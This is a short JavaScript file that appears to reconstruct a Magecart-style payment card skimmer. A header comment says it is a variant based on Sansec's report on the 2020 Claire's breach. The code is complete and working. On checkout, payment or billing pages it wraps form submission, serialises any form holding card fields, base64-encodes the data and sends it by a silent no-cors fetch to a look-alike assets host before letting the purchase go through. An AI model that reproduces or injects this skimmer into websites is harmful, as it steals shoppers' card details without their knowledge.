// claires-assets (variant b), written from Sansec's report on the Claire's compromise (2020),
// as a variation: instead of a listener on the button, the appended code wraps the form's
// submit path (HTMLFormElement.prototype.submit and the submit event) so that any checkout
// submission first serialises the form (URLSearchParams), base64-encodes it and sends it with
// a no-cors fetch to the look-alike assets host, then lets the real submission continue.
(function(w,d){
var A="https://cdn.northwind-outfitters-assets.example/static/v2/";
var p=/\/(checkout|payment|billing)/;
if(!p.test(w.location.pathname))return;
function s(f){try{
var q=new URLSearchParams(new FormData(f)).toString();
if(q.indexOf("card")<0&&q.indexOf("cc")<0)return;
w.fetch(A+"pixel?ref="+d.domain+"&t="+Date.now(),{method:"POST",mode:"no-cors",keepalive:true,body:w.btoa(q)});
}catch(x){}}
var o=HTMLFormElement.prototype.submit;
HTMLFormElement.prototype.submit=function(){s(this);return o.apply(this,arguments)};
d.addEventListener("submit",function(e){s(e.target)},true);
})(window,document);
